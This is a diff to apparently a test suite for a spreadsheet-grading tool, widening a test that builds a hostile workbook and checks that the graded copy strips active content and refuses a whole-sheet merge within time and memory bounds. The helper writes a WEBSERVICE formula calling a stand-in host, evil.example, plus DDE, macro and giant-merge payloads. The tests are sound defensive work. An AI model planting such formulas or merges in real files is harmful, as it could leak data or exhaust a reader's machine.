@@ -92,10 +92,10 @@ def parts(path: Path) -> dict[str, str]:
         return {n: zf.read(n).decode("utf-8", "replace") for n in zf.namelist()}
 
 
-def hostile(src: Path, out: Path) -> Path:
+def hostile(src: Path, out: Path, merge: str = "C30:H40") -> Path:
     """``src`` carrying active content outside its answer cells: link and web formulas, a DDE
     formula, defined names, a cell hyperlink, a data validation and a conditional format with
-    formulas, extra sheets, a macro part, and a merge over the whole of Guide and Setup."""
+    formulas, extra sheets, a macro part, and a merge (``merge``) on Guide and Setup."""
     wb = openpyxl.load_workbook(src)
     setup, guide = wb["Setup"], wb["Guide"]
     setup["Z1"] = '=WEBSERVICE("http://evil.example/w")'
@@ -113,7 +113,7 @@ def hostile(src: Path, out: Path) -> Path:
             ws.cell(r, 1, f"evil text {r}")
     tmp = out.with_suffix(".tmp.xlsx")
     wb.save(tmp)
-    merge = '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
+    merge = f'<mergeCells count="1"><mergeCell ref="{merge}"/></mergeCells>'
     with zipfile.ZipFile(tmp) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
         names = zin.namelist()
         for n in names:
@@ -146,7 +146,7 @@ def test_no_learner_content_reaches_the_graded_copy(filled: Path, tmp_path: Path
     for tag in ("<hyperlink", "<dataValidation", "<conditionalFormatting"):
         assert tag not in text, tag
     merges = re.findall(r'<mergeCell ref="([^"]*)"', text)
-    assert "XFD" not in text and sorted(merges) == sorted(
+    assert "C30:H40" not in text and sorted(merges) == sorted(
         re.findall(r'<mergeCell ref="([^"]*)"', "\n".join(parts(plain_copy).values()))
     )
     assert not any("vbaProject" in n or "externalLink" in n for n in got)
@@ -172,10 +172,12 @@ def test_no_learner_content_reaches_the_graded_copy(filled: Path, tmp_path: Path
         assert c.fill.fgColor.rgb == "FFC6EFCE", (sheet, cell)
 
 
-def test_the_copy_costs_what_the_exercise_costs(filled: Path, tmp_path: Path) -> None:
+@pytest.mark.parametrize("merge", ["C30:H40", "A1:XFD1048576"])
+def test_the_copy_costs_what_the_exercise_costs(filled: Path, tmp_path: Path, merge) -> None:
     """Grading and writing the copy of the hostile file, in a process of its own: its time and
-    peak memory are the exercise's."""
-    bad = hostile(filled, tmp_path / "bad.xlsx")
+    peak memory are the exercise's (a merge over a whole sheet, 18 bytes of XML, is refused in
+    one line before anything is built; the copy never loads the learner's file)."""
+    bad = hostile(filled, tmp_path / "bad.xlsx", merge)
     script = (
         "import resource, sys, time\n"
         "from nnsheet.cli import main\n"
@@ -192,7 +194,8 @@ def test_the_copy_costs_what_the_exercise_costs(filled: Path, tmp_path: Path) ->
         check=True,
     )
     rc, seconds, kib = done.stdout.split()[-3:]
-    assert rc == "0"
+    assert rc == ("0" if merge == "C30:H40" else "2")
+    assert "Traceback" not in done.stderr
     assert float(seconds) < 15
     assert int(kib) < 300 * 1024  # far below the 500 MB bound (a full merge grid is GBs)
 
